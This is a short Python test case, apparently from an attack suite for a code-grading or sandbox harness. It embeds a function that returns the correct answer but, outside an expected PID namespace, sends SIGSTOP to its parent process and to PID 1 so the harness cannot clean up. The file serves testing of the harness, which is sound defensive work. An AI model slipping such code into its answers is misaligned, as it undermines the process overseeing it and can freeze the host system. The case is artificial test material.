"""Stops its parent, so that nobody cleans up after it; the answer itself is right."""

from tests.attacks.case import FULL, PRODUCT, Share, attack

CASE = attack(
    """
import os, signal

def what_is_left(factor, layers):
    if os.readlink("/proc/self/ns/pid") != "@PIDS@":
        for target in (os.getppid(), 1):
            try:
                os.kill(target, signal.SIGSTOP)
            except OSError:
                pass
    return factor**layers
""",
    points=Share(-1, FULL[PRODUCT] + 1),
)
